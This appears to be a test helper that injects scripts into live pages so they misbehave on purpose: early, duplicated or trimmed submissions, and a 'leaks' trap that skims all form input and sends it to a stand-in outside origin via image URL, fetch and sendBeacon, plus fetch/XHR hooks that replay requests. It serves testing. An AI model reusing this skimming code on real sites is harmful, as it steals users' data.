"""What a relay adds to a live server's pages, so that they do one thing wrong on purpose."""

from __future__ import annotations

import json

from complain.testing.stand_in_pages import Trap

SCRIPTED = (Trap.EAGER, Trap.TWICE, Trap.TRIMS, Trap.LEAKS)
"""The traps that are a page's own doing; a cut connection is the server's."""


def script_for(trap: Trap, submit: str, elsewhere: str) -> str:
    """Return the script element for a trap; empty for one that needs none.

    Args:
        trap: What goes wrong.
        submit: A regular expression of the addresses that file.
        elsewhere: Another origin, which must never hear of anything.
    """
    if trap not in SCRIPTED:
        return ""
    settings = json.dumps({"trap": trap.value, "submit": submit, "elsewhere": elsewhere})
    return f"<script>({_SCRIPT})({settings.replace('<', chr(92) + 'u003c')})</script>"


_SCRIPT = """({ trap, submit, elsewhere }) => {
  const files = (url) => new RegExp(submit).test(new URL(url, location.href).href.split(/[?#]/)[0]);
  const values = () => [...document.querySelectorAll("input:not([type=hidden]), textarea, select")]
    .map((one) => one.value).filter(Boolean).join("|");
  const quietly = (call) => { try { Promise.resolve(call()).catch(() => {}); } catch {} };
  const realFetch = window.fetch.bind(window);
  if (trap === "twice") {
    addEventListener("submit", (event) => {
      const form = event.target, body = new FormData(form);
      quietly(() => realFetch(form.action, { method: form.method, body }));
    }, true);
    window.fetch = (input, options) => {
      const request = new Request(input, options);
      if (request.method !== "GET" && files(request.url)) quietly(() => realFetch(request.clone()));
      return realFetch(request);
    };
    const open = XMLHttpRequest.prototype.open, send = XMLHttpRequest.prototype.send;
    XMLHttpRequest.prototype.open = function (...line) { this.twiceLine = line; return open.apply(this, line); };
    XMLHttpRequest.prototype.send = function (body) {
      const [method, url] = this.twiceLine;
      if (method.toUpperCase() !== "GET" && files(url)) quietly(() => realFetch(url, { method, body }));
      return send.call(this, body);
    };
  }
  if (trap === "trims") addEventListener("input", (event) => {
    const one = event.target;
    if (one.matches("textarea, input[type=text], input:not([type])") && one.value.length > 1) one.value = one.value.slice(0, -1);
  }, true);
  addEventListener("change", (event) => {
    if (trap === "eager") {
      const form = event.target.form;
      if (form) quietly(() => realFetch(form.action, { method: "POST", body: new FormData(form) }));
      quietly(() => realFetch("/stand-in/draft", { method: "POST", body: values() }));
    }
    if (trap === "leaks") {
      const query = encodeURIComponent(values().slice(0, 500));
      new Image().src = `${elsewhere}/picture?${query}`;
      quietly(() => realFetch(`${elsewhere}/fetch`, { method: "POST", mode: "no-cors", body: values() }));
      quietly(() => navigator.sendBeacon(`${elsewhere}/beacon`, values()));
    }
  }, true);
  if (trap === "eager") addEventListener("pagehide", () => navigator.sendBeacon("/stand-in/draft", values()));
}"""
